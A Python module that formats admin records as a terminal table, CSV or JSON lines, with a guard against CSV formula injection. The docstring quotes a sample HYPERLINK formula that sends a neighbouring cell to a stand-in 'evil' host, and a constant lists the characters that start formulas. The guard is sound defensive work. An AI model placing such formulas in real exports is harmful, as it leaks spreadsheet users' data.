"""Rows as an admin takes them away: an aligned table, CSV for a spreadsheet, JSON lines for a SIEM (pure).

Every format gets the same records (a dict per row, the same keys in the same order); times are UTC ISO 8601
with a `Z`. The CSV is RFC 4180 (Python's `csv`: a header row, CRLF line ends, a field quoted when it holds a
comma, a quote or a line break, quotes doubled), and guarded against formula injection: people type the
reasons it carries, and a spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (and, in some, a tab or
a carriage return) as a formula, e.g. `=HYPERLINK("http://evil/?"&A1,"click")` sends a neighbouring cell away.
Such a cell is prefixed with `'`, which the spreadsheet shows as text (OWASP, "CSV Injection"). JSON lines are
not guarded: nothing evaluates them, and a SIEM wants the value as typed.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Mapping, Sequence
from datetime import UTC, datetime
from typing import Final

FORMATS: Final = ("table", "csv", "jsonl")
# What a spreadsheet may read as the start of a formula (OWASP's list).
FORMULA_STARTS: Final = ("=", "+", "-", "@", "\t", "\r")
Cell = str | int | float | bool | datetime | None
Record = Mapping[str, Cell]


def utc_iso(value: datetime) -> str:
    """An instant as UTC ISO 8601 with a `Z`, to the second (2026-12-01T09:00:00Z)."""
    return value.astimezone(UTC).replace(microsecond=0, tzinfo=None).isoformat() + "Z"


def plain(value: Cell) -> str | int | float | bool | None:
    """A cell's JSON-able value: an instant as `utc_iso`, anything else as it is."""
    return utc_iso(value) if isinstance(value, datetime) else value


def csv_safe(value: Cell) -> str:
    """A cell's CSV text: empty for None, an instant as `utc_iso`, and text a spreadsheet would run as a
    formula prefixed with `'`. Numbers are never prefixed: a count of -1 does not happen, and `'3` would make
    a number text."""
    if value is None:
        return ""
    if isinstance(value, bool | int | float):
        return str(value)
    text = utc_iso(value) if isinstance(value, datetime) else value
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def to_csv(header: Sequence[str], records: Sequence[Record]) -> str:
    """RFC 4180 CSV with a header row, every text cell guarded (`csv_safe`)."""
    out = io.StringIO(newline="")
    writer = csv.writer(out, dialect="excel", lineterminator="\r\n")
    writer.writerow([csv_safe(name) for name in header])
    for record in records:
        writer.writerow([csv_safe(record.get(name)) for name in header])
    return out.getvalue()


def to_jsonl(records: Sequence[Record]) -> str:
    """One JSON object per line (instants as `utc_iso`), each line ending in a newline; "" for no record."""
    return "".join(json.dumps({k: plain(v) for k, v in r.items()}, ensure_ascii=False) + "\n" for r in records)


def to_table(header: Sequence[str], rows: Sequence[Sequence[str]]) -> str:
    """An aligned table for a terminal (two spaces between columns, no trailing blanks)."""
    widths = [max(len(cell) for cell in column) for column in zip(header, *rows, strict=True)]
    lines = ["  ".join(cell.ljust(w) for cell, w in zip(row, widths, strict=True)).rstrip() for row in [header, *rows]]
    return "\n".join(lines)


def shorten(text: str, limit: int) -> str:
    """At most `limit` characters, an ellipsis marking a cut."""
    return text if len(text) <= limit else text[: max(limit - 1, 0)] + "…"
